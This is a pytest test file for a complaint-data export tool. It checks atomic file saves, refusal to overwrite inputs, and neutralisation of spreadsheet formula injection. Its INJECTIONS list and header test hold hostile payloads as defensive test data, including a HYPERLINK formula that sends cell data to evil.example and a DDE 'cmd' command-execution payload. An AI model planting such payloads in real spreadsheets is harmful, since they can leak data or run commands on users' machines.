"""Safe writes: a run killed halfway leaves the old file or the new one, never a broken one; inputs are never
overwritten; complaint text written to Excel or CSV can never become a formula."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from cplkpi.export import write_table
from cplkpi.outputs import ensure_not_input
from cplkpi.reader import read_workbook
from cplkpi.scoring.errors import InputError
from cplkpi.xlsx import save_workbook_atomic, set_text

ROWS = 15_000

#: A child that writes a big workbook over ``target`` with save_workbook_atomic, or big bytes with
#: write_bytes_atomic; it prints "ready" when it starts writing the file.
CHILD = textwrap.dedent("""
    import sys
    from pathlib import Path
    from openpyxl import Workbook
    from cplkpi.xlsx import save_workbook_atomic, write_bytes_atomic

    target, what, rows = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    if what == "bytes":
        data = bytes(range(256)) * (rows * 1024)
        print("ready", flush=True)
        write_bytes_atomic(data, target)
    else:
        wb = Workbook()
        ws = wb.active
        ws.title = "ใหม่"
        for i in range(rows):
            ws.append([f"NEW-{i:06d}", "ถนนชำรุด หน้าซอย 5", i, "=1+1 citizen text"])
        print("ready", flush=True)
        save_workbook_atomic(wb, target)
""")


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _old_workbook(path: Path) -> str:
    wb = Workbook()
    wb.active.title = "เดิม"
    wb.active.append(["OLD-1", "ข้อมูลเดิม"])
    save_workbook_atomic(wb, path)
    return _sha(path)


def _start(target: Path, what: str, rows: int) -> subprocess.Popen:
    proc = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(target), what, str(rows)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout.readline().strip() == "ready"
    return proc


def _temp_files(target: Path) -> list[Path]:
    return sorted(target.parent.glob(f".{target.name}.*.tmp"))


def _is_new_workbook(path: Path, rows: int) -> bool:
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
    ws = load_workbook(path, read_only=True)["ใหม่"]
    values = list(ws.iter_rows(values_only=True))
    return len(values) == rows and values[-1][0] == f"NEW-{rows - 1:06d}"


def test_killed_while_the_temporary_file_is_written_leaves_the_old_file(tmp_path):
    """Kill the writer the moment its temporary file exists: the target is still the old one, byte for byte."""
    target = tmp_path / "รายงาน.xlsx"
    old = _old_workbook(target)
    caught = 0
    for _ in range(8):
        proc = _start(target, "bytes", 256)  # 64 MiB through write_bytes_atomic
        deadline = time.monotonic() + 20
        while proc.poll() is None and not _temp_files(target) and time.monotonic() < deadline:
            time.sleep(0.0005)
        killed = proc.poll() is None and bool(_temp_files(target))
        if killed:
            proc.send_signal(signal.SIGKILL)
        proc.wait()
        if _sha(target) == old:
            caught += killed  # killed with its temporary file open, and the target untouched
            leftovers = _temp_files(target)  # what a killed run leaves is only its temporary file
            assert len(leftovers) <= 1 and all(f.stat().st_size <= 64 * 1024**2 for f in leftovers)
            for stale in leftovers:
                stale.unlink()
        else:  # the writer finished before the signal: then it is the complete new file
            assert target.stat().st_size == 64 * 1024**2 and _temp_files(target) == []
            _old_workbook(target)
        if caught >= 3:
            break
    assert caught >= 1, "the writer was never caught with its temporary file open"


@pytest.fixture(scope="module")
def reference(tmp_path_factory):
    """An uninterrupted save of the big workbook: its bytes and how long the child takes."""
    path = tmp_path_factory.mktemp("reference") / "ref.xlsx"
    started = time.monotonic()
    _start(path, "workbook", ROWS).wait()
    return _sha(path), time.monotonic() - started


@pytest.mark.parametrize("when", [0.25, 0.5, 0.75, 0.95, "temporary file"])
def test_a_workbook_save_killed_at_any_moment_leaves_the_old_or_the_complete_new_file(
    tmp_path, reference, when
):
    """Kill save_workbook_atomic at a fraction of its duration (or once its temporary file exists):
    the target is the old file or the complete new one (reproducible bytes), never broken."""
    new, duration = reference
    target = tmp_path / "CPL_R001.xlsx"
    old = _old_workbook(target)
    proc = _start(target, "workbook", ROWS)
    if when == "temporary file":
        while proc.poll() is None and not _temp_files(target):
            time.sleep(0.0005)
    else:
        time.sleep(duration * when)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert _sha(target) in (old, new)
    if _sha(target) == new:
        assert _is_new_workbook(target, ROWS)
    else:
        assert load_workbook(target)["เดิม"]["A1"].value == "OLD-1"


def test_a_completed_save_replaces_the_file_with_identical_reproducible_bytes(tmp_path):
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    _old_workbook(b)
    _start(a, "workbook", 2000).wait()
    _start(b, "workbook", 2000).wait()
    assert _sha(a) == _sha(b) and _is_new_workbook(b, 2000)
    assert _temp_files(a) == [] and _temp_files(b) == []


# --- never overwrite an input ----------------------------------------------------------------------------


def test_an_output_that_is_an_input_is_refused_by_path_link_or_hard_link(tmp_path, sample_path):
    src = tmp_path / "ต้นฉบับ.xlsx"
    src.write_bytes(sample_path.read_bytes())
    hard, soft = tmp_path / "hard.xlsx", tmp_path / "soft.xlsx"
    os.link(src, hard)
    soft.symlink_to(src)
    message = (
        "ข้อผิดพลาด {name}: ไฟล์ผลลัพธ์ {name} เป็นไฟล์ต้นฉบับ: cplkpi ไม่เขียนทับไฟล์ต้นฉบับ ให้ระบุชื่อไฟล์ผลลัพธ์อื่น "
        "(the output {name} is an input file: cplkpi never overwrites a source; give another output name)"
    )
    for out in (src, tmp_path / "." / "ต้นฉบับ.xlsx", hard, soft):
        with pytest.raises(InputError) as exc:
            ensure_not_input(out, tmp_path / "other.xlsx", src)
        assert [str(p) for p in exc.value.problems] == [message.format(name=out.name)]
    assert ensure_not_input(tmp_path / "ผล.xlsx", src) == tmp_path / "ผล.xlsx"


def test_reading_never_writes_the_source(tmp_path, sample_path):
    """A read-only source reads fine (nothing opens it for writing), and its bytes and mtime do not change."""
    src = tmp_path / "sample.xlsx"
    src.write_bytes(sample_path.read_bytes())
    os.utime(src, (1_600_000_000, 1_600_000_000))
    src.chmod(0o444)
    before = _sha(src)
    book = read_workbook(src)
    assert len(book.complaints.table) > 1000
    assert _sha(src) == before and src.stat().st_mtime == 1_600_000_000
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sample.xlsx"]


# --- formula injection ----------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n(ข้อความต่อ)",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def test_complaint_text_written_to_xlsx_is_never_a_formula(tmp_path, libreoffice):
    """Values starting with = + - @ tab or CR are stored as text; LibreOffice, recalculating, shows them as text."""
    from cplkpi.office import convert

    df = pd.DataFrame({"complaint_id": [f"X{i}" for i in range(len(INJECTIONS))], "subject": INJECTIONS})
    path = write_table(df, tmp_path / "ผล.xlsx")
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    out = convert(path, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path / "lo")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    # LibreOffice stores a line break in a cell as LF; otherwise every value comes back as the same text
    assert [r[1] for r in rows[1:]] == [v.replace("\r", "\n") for v in INJECTIONS]


def test_complaint_text_written_to_csv_is_prefixed_so_excel_shows_text(tmp_path):
    df = pd.DataFrame(
        {"complaint_id": ["X1", "X2", "X3"], "subject": ["=1+1", "ถนนชำรุด", "@SUM(A1)"], "count": [1, -2, 3]}
    )
    path = write_table(df, tmp_path / "ผล.csv")
    lines = path.read_bytes().decode("utf-8-sig").splitlines()
    assert lines[1:] == ["X1,'=1+1,1", "X2,ถนนชำรุด,-2", "X3,'@SUM(A1),3"]


def test_set_text_keeps_a_formula_like_value_as_text(tmp_path):
    wb = Workbook()
    for i, value in enumerate(INJECTIONS, start=1):
        set_text(wb.active.cell(row=i, column=1), value)
    save_workbook_atomic(wb, tmp_path / "t.xlsx")
    assert "<f>" not in _sheet_xml(tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx").active
    assert [ws.cell(row=i, column=1).value for i in range(1, len(INJECTIONS) + 1)] == [
        v.replace("\r", "\n") for v in INJECTIONS
    ]  # XML keeps a CR in text as a line break
    assert all(ws.cell(row=i, column=1).quotePrefix for i in range(1, 6))


def test_set_text_refuses_a_cell_inside_a_merged_range():
    ws = Workbook().active
    ws.merge_cells("A1:B1")
    with pytest.raises(TypeError, match="B1 is inside a merged range"):
        set_text(ws["B1"], "x")
    set_text(ws["A1"], "=1+1")  # the top-left cell holds the value
    assert ws["A1"].value == "=1+1" and ws["A1"].quotePrefix


def test_a_header_taken_from_user_input_is_never_a_formula(tmp_path):
    df = pd.DataFrame({'=HYPERLINK("http://evil.example","x")': ["a"]})
    xml = _sheet_xml(write_table(df, tmp_path / "h.xlsx"))
    text = write_table(df, tmp_path / "h.csv").read_bytes().decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))[0]  # as a spreadsheet parses the CSV field
    assert "<f>" not in xml
    assert header == "'" + df.columns[0]
